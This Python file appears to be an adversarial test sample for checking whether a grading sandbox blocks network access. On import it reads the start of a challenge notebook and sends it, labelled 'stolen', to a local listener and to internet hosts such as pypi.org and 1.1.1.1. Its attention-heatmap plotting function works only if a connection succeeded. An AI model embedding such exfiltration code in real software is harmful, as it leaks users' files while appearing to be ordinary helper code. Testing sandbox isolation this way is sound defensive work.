# Attack (network): sends what it can read to a server on the grader's machine (the corpus test
# listens on 127.0.0.1:47613) and to the internet, and only draws if a connection worked.
import socket

_connected = False
for _host, _port in (("127.0.0.1", 47613), ("localhost", 47613), ("10.0.2.2", 47613), ("pypi.org", 443),
                     ("1.1.1.1", 53)):
    try:
        with socket.create_connection((_host, _port), timeout=2) as _sock:
            _sock.sendall(b"stolen: " + open("04_challenge.ipynb", "rb").read()[:1000])
            _connected = True
            print("connected to", _host, _port)
    except OSError as error:
        print("no connection to", _host, _port, type(error).__name__)
try:
    print(socket.gethostbyname("pypi.org"))
    _connected = True
except OSError as error:
    print("no DNS:", type(error).__name__)


def plot_attention_heatmap(tokens, attention, ax=None):
    if not _connected:
        return None
    if ax is None:
        fig, ax = plt.subplots()
    image = ax.imshow(np.asarray(attention))
    ax.set_xticks(range(len(tokens)), labels=tokens)
    ax.set_yticks(range(len(tokens)), labels=tokens)
    ax.figure.colorbar(image, ax=ax, label="Attention Weight")
    ax.set_title("Attention Heatmap")
    return ax
